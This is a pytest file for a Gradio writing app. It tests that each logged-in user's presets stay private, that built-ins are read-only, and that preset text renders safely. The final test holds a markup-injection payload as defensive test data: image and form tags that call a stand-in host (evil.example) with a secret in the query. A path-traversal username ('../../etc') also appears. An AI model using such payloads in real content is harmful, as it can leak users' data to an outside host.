"""Presets per user (issue 13, part 3): a user's presets belong to their login, like drafts. Bob can
neither see, overwrite nor delete Alice's; built-ins are read-only for everyone; a preset's name and
description are plain text wherever they are shown.

The UI tests go through the Presets tab's own event handlers (the functions gradio calls, found in the
built app) with requests of two logged-in users.
"""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace
from typing import Any

import gradio as gr
import pytest
from markdown_it import MarkdownIt

from writing.library.presets import BUILTIN_DIR, PresetError, PresetStore, parse_preset
from writing.ui.context import UIContext
from writing.ui.tabs.presets import describe

WARM = [0.95, 0.9, 40.0, 0.05, 1.1, 0.2, 700.0, -1]
ALICE = SimpleNamespace(username="alice", session_hash="a")
BOB = SimpleNamespace(username="bob", session_hash="b")


@pytest.fixture
def store(tmp_path: Path) -> PresetStore:
    return PresetStore(builtin_dir=BUILTIN_DIR, user_dir=tmp_path / "presets")


def test_user_presets_belong_to_their_login(store: PresetStore, tmp_path: Path) -> None:
    mine = parse_preset({"name": "Mine", "description": "alice's", "temperature": 0.4})
    path = store.save_user(mine, user="alice")
    assert "Mine" in store.names("alice") and "Mine" not in store.names("bob")
    assert "Mine" not in store.names("local") and "Mine" not in store.names(None)
    with pytest.raises(PresetError, match="unknown preset 'Mine'"):
        store.get("Mine", "bob")
    with pytest.raises(PresetError, match="no user preset named 'Mine'"):
        store.delete_user("Mine", user="bob")
    with pytest.raises(PresetError, match="no user preset named 'Mine'"):  # no "update" of what is not yours
        store.save_user(parse_preset({"name": "Mine", "temperature": 1.9}), overwrite=True, user="bob")
    # Bob may have a preset of the same name: his own, in his own folder.
    store.save_user(parse_preset({"name": "Mine", "description": "bob's", "temperature": 1.5}), user="bob")
    assert store.get("Mine", "alice").temperature == 0.4 and store.get("Mine", "bob").temperature == 1.5
    store.delete_user("Mine", user="bob")
    assert path.is_file() and store.get("Mine", "alice").description == "alice's"
    # Folders: "local" keeps the old place; each login its own folder with a safe name.
    assert path.parent != store.user_dir and path.parent.parent == store.user_dir / "users"
    evil = store.save_user(parse_preset({"name": "x"}), user="../../etc")
    assert evil.resolve().is_relative_to((store.user_dir / "users").resolve())
    # After a restart, still per user.
    fresh = PresetStore(builtin_dir=BUILTIN_DIR, user_dir=store.user_dir)
    assert "Mine" in fresh.names("alice") and "Mine" not in fresh.names("bob")


def test_builtins_are_read_only_for_every_user(store: PresetStore) -> None:
    for user in ("alice", "local"):
        with pytest.raises(PresetError, match="built-in preset and cannot be overwritten"):
            store.save_user(parse_preset({"name": "creative", "temperature": 2.0}), overwrite=True, user=user)
        with pytest.raises(PresetError, match="built-in preset and cannot be deleted"):
            store.delete_user("creative", user=user)
    assert store.get("creative", "bob").temperature == 0.8


def _handlers(store: PresetStore) -> tuple[gr.Blocks, dict[str, Any]]:
    from writing.ui.tabs.presets import build_presets_tab

    ctx = UIContext(engine=SimpleNamespace(context=4096), presets=store)
    with gr.Blocks() as app:
        build_presets_tab(ctx)
    return app, {fn.name: fn.fn for fn in app.fns.values()}


def test_the_presets_tab_acts_for_the_logged_in_user(store: PresetStore) -> None:
    _app, handlers = _handlers(store)
    status, choices, signal = handlers["save_as_new"](ALICE, "Alice voice", "warm", None, *WARM)
    assert status.startswith("✓ Saved **Alice voice**") and "Alice voice" in choices["choices"]
    # Bob's page loads his list: no Alice voice.
    assert "Alice voice" not in handlers["choices"](BOB, None)["choices"]
    assert "Alice voice" in handlers["choices"](ALICE, None)["choices"]
    # Bob cannot show, update or delete it, whatever name he sends.
    shown = handlers["show"](BOB, "Alice voice")
    assert shown[0].startswith("⚠ unknown preset") and shown[-1]["interactive"] is False
    status, *_ = handlers["update_user"](BOB, "Alice voice", "hijacked", None, 2.0, *WARM[1:])
    assert status.startswith("⚠ Not saved: no user preset named 'Alice voice'")
    status, *_ = handlers["delete"](BOB, "Alice voice", None)
    assert status.startswith("⚠ no user preset named 'Alice voice'")
    status, _signal = handlers["apply"](BOB, "Alice voice", None)
    assert status == "⚠ Choose a preset first."
    assert store.get("Alice voice", "alice").description == "warm" and store.get("Alice voice", "alice").temperature \
        == 0.95
    # Alice can.
    status, *_ = handlers["update_user"](ALICE, "Alice voice", "warmer", None, 0.5, *WARM[1:])
    assert status == "✓ Updated **Alice voice**."
    status, *_ = handlers["delete"](ALICE, "Alice voice", None)
    assert status == "✓ Deleted **Alice voice**."


def test_tab_preset_pickers_show_each_user_their_own_presets(store: PresetStore) -> None:
    from writing.ui.sampling import build_sampling_panel

    store.save_user(parse_preset({"name": "Alice voice", "temperature": 0.4}), user="alice")
    ctx = UIContext(engine=SimpleNamespace(context=4096), presets=store)
    with gr.Blocks() as app:
        panel = build_sampling_panel(ctx, tab="blog")
    assert "Alice voice" not in panel.preset.choices[0] and all(  # built before anyone is known: built-ins
        store.is_builtin(name) for name, _value in panel.preset.choices)
    loads = [fn.fn for fn in app.fns.values() if fn.name == "on_load"]
    assert len(loads) == 1
    assert "Alice voice" in loads[0]("creative", ALICE)["choices"]
    assert "Alice voice" not in loads[0]("creative", BOB)["choices"]
    picked = [fn.fn for fn in app.fns.values() if fn.name == "load"][0]
    assert picked("Alice voice", ALICE)[0] == 0.4
    with pytest.raises(gr.Error, match="unknown preset 'Alice voice'"):
        picked("Alice voice", BOB)


BEACON = "![beacon](https:evil.example?q=SECRET) <img src=https:evil.example> <form action=https:x><button>"


def test_names_and_descriptions_render_as_plain_text(store: PresetStore) -> None:
    # A name cannot contain "/", but "https:host" is still a URL to a browser.
    preset = parse_preset({"name": "![b](https:evil.example?q=1) <img src=x>", "description": BEACON})
    store.save_user(preset, user="alice")
    card = describe(store, preset.name, "alice")
    html = MarkdownIt("commonmark").render(card)
    assert "<img" not in html and "<form" not in html and "<a " not in html, html
    assert "SECRET" not in card  # the description is not in the Markdown card at all: it has its own Textbox
    _app, handlers = _handlers(store)
    shown = handlers["show"](ALICE, preset.name)
    assert shown[-3] == BEACON  # the Textbox's value: shown as typed, never rendered
    status, *_ = handlers["save_as_new"](ALICE, "x <img src=https:evil.example>", "", None, *WARM)
    assert "<img" not in MarkdownIt("commonmark").render(status)
